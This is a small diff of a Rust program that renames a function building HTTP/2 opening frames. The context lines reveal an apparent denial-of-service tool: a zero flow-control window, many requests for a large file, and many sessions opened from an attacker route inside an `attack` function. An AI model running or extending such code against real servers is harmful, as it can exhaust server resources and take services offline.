@@ -36,7 +36,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
 }
 
 /// The first frames of a client: a window of zero, and this number of requests for a large file.
-fn opening(requests: u32) -> Vec<u8> {
+fn first_frames(requests: u32) -> Vec<u8> {
     let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     bytes.extend(frame(SETTINGS, 0, 0, &window(0)));
     // RFC 7541 Appendix A: GET, http, :path and :authority as literals.
@@ -136,7 +136,7 @@ impl Route {
     /// Opens a session with requests to which the server has begun to respond.
     fn busy(&self, requests: u32) -> io::Result<Box<dyn Wire>> {
         let mut wire = self.reach(ATTACKER)?;
-        wire.write_all(&opening(requests))?;
+        wire.write_all(&first_frames(requests))?;
         let mut head = [0; 9];
         while head[3] != HEADERS {
             wire.read_exact(&mut head)?;
@@ -351,7 +351,7 @@ fn attack(route: &Route, others: &[Route], slots: usize) {
         for _ in 0..4 {
             let mut sessions: Vec<_> = (0..SESSIONS).filter_map(|_| route.reach(ATTACKER).ok()).collect();
             for wire in &mut sessions {
-                let _ = wire.write_all(&opening(100));
+                let _ = wire.write_all(&first_frames(100));
                 wire.socket().set_nonblocking(true).expect("set");
             }
             for _ in 0..80 {
